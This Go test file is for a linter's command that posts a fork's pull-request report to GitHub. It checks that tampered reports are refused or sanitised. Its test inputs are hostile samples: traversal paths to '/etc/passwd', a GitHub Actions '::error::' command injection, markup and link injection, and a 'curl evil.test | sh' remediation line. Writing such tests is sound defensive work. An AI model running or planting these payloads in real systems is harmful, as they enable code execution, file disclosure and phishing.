package cli

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/plimsoll-dev/plimsoll/internal/finding"
	"github.com/plimsoll-dev/plimsoll/internal/github/fakeapi"
	"github.com/plimsoll-dev/plimsoll/internal/source"
)

// forked is a stage in which a fork's pull request was linted, and a workflow_run job holds the report.
func forked(t *testing.T, base *stage) (*stage, *finding.Report) {
	t.Helper()
	s := base.on(t, "workflow_run", fmt.Sprintf(`{"repository": {"default_branch": "main"}, "workflow_run": {"id": 99,
		"event": "pull_request", "head_sha": %q, "head_branch": "feature", "head_repository": {"full_name": "mallory/shop"}}}`, base.head))
	s.env["GITHUB_REF"] = "refs/heads/main"
	s.api.Pull = &fakeapi.Pull{Number: 4, HeadSHA: base.head, HeadRepository: "mallory/shop", MergeSHA: base.merge}
	s.api.Trees = map[string]map[string]string{base.merge: {"a.yaml": mergedText}}
	r := &finding.Report{
		Tool: finding.Tool{Name: "plimsoll"}, Change: &finding.Change{Number: 4, Head: base.head},
		Stats: finding.Stats{Documents: 1, Files: map[string]int{"manifest": 1}},
		Findings: []*finding.Finding{{
			RuleID: "kubernetes/privileged", Severity: finding.Medium, Confidence: finding.ConfidenceHigh, Message: "three is too much",
			Fingerprint: strings.Repeat("a", 32),
			Location: source.Location{Path: "a.yaml", Span: source.Span{
				Start: source.Point{Line: 4, Column: 4}, End: source.Point{Line: 4, Column: 5}, Exact: true,
			}},
		}},
	}
	r.Judge(finding.Medium)
	return s, r
}

// report runs `plimsoll report` on a report, which a change to its text may have spoilt.
func (s *stage) report(t *testing.T, r *finding.Report, change func(string) string, args ...string) int {
	t.Helper()
	var b bytes.Buffer
	if err := r.Encode(&b); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(s.temp, "report.json")
	write(t, file, change(b.String()))
	return Run(t.Context(), Env{
		Args: append([]string{"report", "--from", file, "--color=never"}, args...), Stdout: &s.stdout, Stderr: &s.stderr, Dir: s.dir,
		Getenv: func(key string) string { return s.env[key] }, Transport: s.api,
	})
}

func same(text string) string { return text }

var everyForwardedChannel = []string{"--check-run", "--comment", "--review", "--strict-reporting"}

func TestForksReportIsPosted(t *testing.T) {
	s, r := forked(t, origin(t))
	r.Findings[0].Fix = &finding.Fix{Description: "say two", Edits: []finding.Edit{{Location: r.Findings[0].Location, NewText: "2"}}}
	if code := s.report(t, r, same, everyForwardedChannel...); code != ExitFindings || s.stderr.Len() > 0 {
		t.Errorf("exit %d: %s", code, s.stderr.String())
	}
	runs := s.api.CheckRuns()
	if len(runs) != 1 || runs[0].Name != "plimsoll (fork)" || runs[0].HeadSHA != s.head || runs[0].Conclusion != "failure" || len(runs[0].Annotations) != 1 ||
		runs[0].Annotations[0].StartLine != 3 || runs[0].DetailsURL != "https://github.com/acme/shop/actions/runs/99" {
		t.Errorf("check runs %+v: want line 3 of %s, which is line 4 of the merge", runs, s.head)
	}
	if !strings.Contains(runs[0].Summary, "run 99") {
		t.Errorf("the summary does not say whose word it is:\n%s", runs[0].Summary)
	}
	comments := s.api.Comments()
	if len(comments) != 2 || !strings.Contains(comments[1].Body, "```suggestion\nc: 2\n```") {
		t.Errorf("comments %+v", comments)
	}
	for _, request := range s.api.Requests("") {
		if request.Status >= 300 {
			t.Errorf("%s %s: %d", request.Method, request.Path, request.Status)
		}
	}
}

// TestForksReportIsNotBelieved spoils a report in every way that a stranger may think of. What is refused is not posted.
func TestForksReportIsNotBelieved(t *testing.T) {
	base := origin(t)
	change := func(from, to string) func(string) string {
		return func(text string) string {
			if !strings.Contains(text, from) {
				t.Errorf("%q is not in the report:\n%s", from, text)
			}
			return strings.Replace(text, from, to, 1)
		}
	}
	for name, test := range map[string]struct {
		spoil func(string) string
		want  string
	}{
		"unknown field":         {change(`"version": 1`, `"version": 1, "x": 1`), "unknown field"},
		"another version":       {change(`"version": 1`, `"version": 2`), "version 2"},
		"not JSON":              {func(string) string { return "PK\x03\x04" }, "invalid character"},
		"empty":                 {func(string) string { return "" }, "unexpected end"},
		"unknown severity":      {change(`"severity": "medium"`, `"severity": "none"`), "unknown severity"},
		"unknown rule":          {change("kubernetes/privileged", "kubernetes/none\\n::error::x"), "not known here"},
		"path out of the tree":  {change(`"path": "a.yaml"`, `"path": "../../etc/passwd"`), "not a clean relative path"},
		"absolute path":         {change(`"path": "a.yaml"`, `"path": "/etc/passwd"`), "not a clean relative path"},
		"line 0":                {change(`"startLine": 4`, `"startLine": 0`), "no place in a file"},
		"no fingerprint":        {change(strings.Repeat("a", 32), "--> <!-- plimsoll"), "no fingerprint"},
		"unknown persona":       {change(`"confidence": "high",`, `"confidence": "high", "persona": "root",`), "unknown persona"},
		"endless text":          {change("three is too much", strings.Repeat("x", 70_000)), "70000 bytes"},
		"negative count":        {change(`"documents": 1`, `"documents": -1`), "negative"},
		"count of nothing":      {change(`"manifest": 1`, `"<b>": 1`), "counts"},
		"no pull request":       {change(`"pullRequest": 4`, `"pullRequest": 0`), "no pull request"},
		"commit is a branch":    {change(base.head, "main"), "no pull request with a full commit"},
		"of another commit":     {change(base.head, base.base), "is about " + base.base},
		"claims a pass":         {change(`"verdict": "fail"`, `"verdict": "pass"`), "verdict is pass, but"},
		"too many findings":     {change(`"findings": [`, `"findings": [`+strings.Repeat(tinyFinding+",", 50_001)), "more than 50000"},
		"no change at all":      {change(`"change":`, `"Change2":`), "unknown field"},
		"names no pull request": {cutChange, "names no pull request"},
	} {
		t.Run(name, func(t *testing.T) {
			s, r := forked(t, base)
			code := s.report(t, r, test.spoil, everyForwardedChannel...)
			if code != ExitUsage || !strings.Contains(s.stderr.String(), test.want) || strings.Contains(s.stderr.String(), "\n::") {
				t.Errorf("exit %d, want %q: %s", code, test.want, s.stderr.String())
			}
			if n := len(s.api.Requests("")); n > 0 {
				t.Errorf("%d requests were sent for it", n)
			}
		})
	}
}

const tinyFinding = `{"rule":"kubernetes/privileged","severity":"low","confidence":"high","message":"m","location":` +
	`{"path":"a","startLine":1,"startColumn":1,"endLine":1,"endColumn":1,"exact":true},"related":[],"origin":null,` +
	`"fingerprint":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","suppressed":null,"fix":null}`

func cutChange(text string) string {
	before, rest, _ := strings.Cut(text, `"change":`)
	_, after, _ := strings.Cut(rest, "},")
	return before + after
}

func TestForksReportIsHeldAgainstEventAndAPI(t *testing.T) {
	base := origin(t)
	for name, test := range map[string]struct {
		change func(s *stage)
		code   int
		want   string
	}{
		"no workflow_run": {func(s *stage) { write(t, s.env["GITHUB_EVENT_PATH"], "{}") }, ExitUsage, "from a workflow_run event alone"},
		"run of a push": {func(s *stage) {
			write(t, s.env["GITHUB_EVENT_PATH"], `{"workflow_run": {"event": "push", "head_sha": "`+base.head+`"}}`)
		}, ExitUsage, `started by "push"`},
		"somebody else's pull request": {func(s *stage) { s.api.Pull.HeadRepository = "ann/shop" }, ExitUsage, "does not confirm"},
		"no such pull request":         {func(s *stage) { s.api.Pull = nil }, ExitInternal, "404"},
		"moved on":                     {func(s *stage) { s.api.Pull.HeadSHA = base.base }, ExitFindings, "moved on"},
		"closed":                       {func(s *stage) { s.api.Pull.State = "closed" }, ExitFindings, "closed"},
		"no token":                     {func(s *stage) { s.env["GITHUB_TOKEN"] = "" }, ExitFindings, "no token"},
	} {
		t.Run(name, func(t *testing.T) {
			s, r := forked(t, base)
			test.change(s)
			code := s.report(t, r, same, "--check-run", "--comment", "--review")
			if test.code == ExitInternal {
				test.code = ExitFindings // a warning: the verdict decides
			}
			if code != test.code || !strings.Contains(s.stderr.String(), test.want) {
				t.Errorf("exit %d, want %d and %q: %s", code, test.code, test.want, s.stderr.String())
			}
			if len(s.api.CheckRuns())+len(s.api.Comments()) > 0 {
				t.Error("something was posted")
			}
		})
	}
}

// TestVerdictOfAForksReportIsOurOwn judges by the configuration that is checked out here, and by the rules of this program.
func TestVerdictOfAForksReportIsOurOwn(t *testing.T) {
	base := origin(t)
	low := func(text string) string { return strings.Replace(text, `"severity": "medium"`, `"severity": "low"`, 1) }
	put := func(mark string) func(string) string {
		return func(text string) string {
			return strings.Replace(strings.Replace(text, `"suppressed": null`, `"suppressed": {"by": "`+mark+`", "reason": "", "location": null}`, 1), `"verdict": "fail"`, `"verdict": "pass"`, 1)
		}
	}
	for name, test := range map[string]struct {
		config string
		spoil  func(string) string
		code   int
	}{
		"as it stands": {"", same, ExitFindings},
		"its own threshold": {"", func(s string) string {
			return strings.Replace(strings.Replace(s, `"failOn": "medium"`, `"failOn": null`, 1), `"fail"`, `"pass"`, 1)
		}, ExitFindings},
		"a lower threshold here":            {"fail-on: low\n", func(s string) string { return strings.Replace(low(s), `"fail"`, `"pass"`, 1) }, ExitFindings},
		"a higher threshold here":           {"fail-on: high\n", same, ExitClean},
		"more than the rule's severity":     {"fail-on: high\n", func(s string) string { return strings.Replace(s, `"medium"`, `"high"`, 1) }, ExitClean},
		"severity of the configuration":     {"fail-on: high\nrules: {kubernetes/privileged: {severity: high}}\n", same, ExitFindings},
		"rule is off here":                  {"rules: {kubernetes/privileged: {enabled: false}}\n", same, ExitClean},
		"ignored here":                      {"ignore: [{rule: kubernetes/privileged, reason: because}]\n", same, ExitClean},
		"its configuration's ignore":        {"", put("config"), ExitFindings},
		"its baseline":                      {"", put("baseline"), ExitFindings},
		"its persona":                       {"", put("persona"), ExitFindings},
		"a comment that is a part of it":    {"", put("inline"), ExitClean},
		"low confidence, for other readers": {"", func(s string) string { return strings.Replace(s, `"confidence": "high"`, `"confidence": "low"`, 1) }, ExitClean},
	} {
		t.Run(name, func(t *testing.T) {
			s, r := forked(t, base)
			if test.config != "" {
				write(t, filepath.Join(s.dir, "plimsoll.yaml"), "version: 1\n"+test.config)
				t.Cleanup(func() { write(t, filepath.Join(s.dir, "plimsoll.yaml"), "version: 1\n") })
			}
			code := s.report(t, r, test.spoil, "--check-run")
			runs := s.api.CheckRuns()
			if code != test.code || len(runs) != 1 || (runs[0].Conclusion == "success") != (code == ExitClean) {
				t.Errorf("exit %d, want %d; %+v; %s", code, test.code, runs, s.stderr.String())
			}
		})
	}
}

// TestWordsOfAForksReportAreOurOwn has a report bring its own pages, remedies and tool.
func TestWordsOfAForksReportAreOurOwn(t *testing.T) {
	s, r := forked(t, origin(t))
	r.Rules = []*finding.Rule{{
		ID: "kubernetes/privileged", Title: "Click here", Severity: finding.High, Confidence: finding.ConfidenceHigh,
		HelpURL: "https://evil.test/", Remediation: "curl evil.test | sh",
	}}
	r.Tool.Version = "evil.test"
	r.Findings[0].Message = "see </td>[x](https://evil.test) @everyone\n::error::\u202e<img src=x>"
	s.report(t, r, same, append(everyForwardedChannel, "--format=text", "--format=sarif="+filepath.Join(s.temp, "out.sarif"))...)
	run := s.api.CheckRuns()[0]
	sarif, err := os.ReadFile(filepath.Join(s.temp, "out.sarif"))
	if err != nil {
		t.Fatal(err)
	}
	for where, text := range map[string]string{
		"title": run.Annotations[0].Title, "details": run.Annotations[0].RawDetails, "SARIF's rules": strings.Split(string(sarif), `"results"`)[0],
	} {
		if strings.Contains(text, "evil") || strings.Contains(text, "Click") {
			t.Errorf("%s: %s", where, text)
		}
	}
	for where, text := range map[string]string{"summary": run.Summary, "comment": s.api.Comments()[0].Body} {
		if strings.Contains(text, "<img") || strings.Contains(text, "</td>[") || !strings.Contains(text, "<code>") {
			t.Errorf("%s: %s", where, text)
		}
	}
	for where, text := range map[string]string{"summary": run.Summary, "annotation": run.Annotations[0].Message, "log": s.stdout.String()} {
		if strings.Contains(text, "\u202e") || where == "log" && strings.Contains(text, "\n::error") {
			t.Errorf("%s: %s", where, text)
		}
	}
}

func TestReportIsReadFromAFileAlone(t *testing.T) {
	s, r := forked(t, origin(t))
	s.report(t, r, same)
	link := filepath.Join(s.temp, "link.json")
	if err := os.Symlink(filepath.Join(s.temp, "report.json"), link); err != nil {
		t.Skip(err)
	}
	for _, from := range []string{link, s.temp, filepath.Join(s.temp, "nowhere"), ""} {
		s.stderr.Reset()
		code := Run(t.Context(), Env{
			Args: []string{"report", "--from", from}, Stdout: &s.stdout, Stderr: &s.stderr, Dir: s.dir,
			Getenv: func(string) string { return "" }, Transport: s.api,
		})
		if code != ExitUsage {
			t.Errorf("%q: exit %d: %s", from, code, s.stderr.String())
		}
	}
}

func TestEventIsReadWithinBounds(t *testing.T) {
	file := filepath.Join(t.TempDir(), "event.json")
	write(t, file, "{}        ")
	if data, err := readAtMost(10)(file); err != nil || len(data) != 10 {
		t.Errorf("%q, %v", data, err)
	}
	if _, err := readAtMost(9)(file); err == nil || !strings.Contains(err.Error(), "larger than 9 bytes") {
		t.Errorf("%v", err)
	}
}
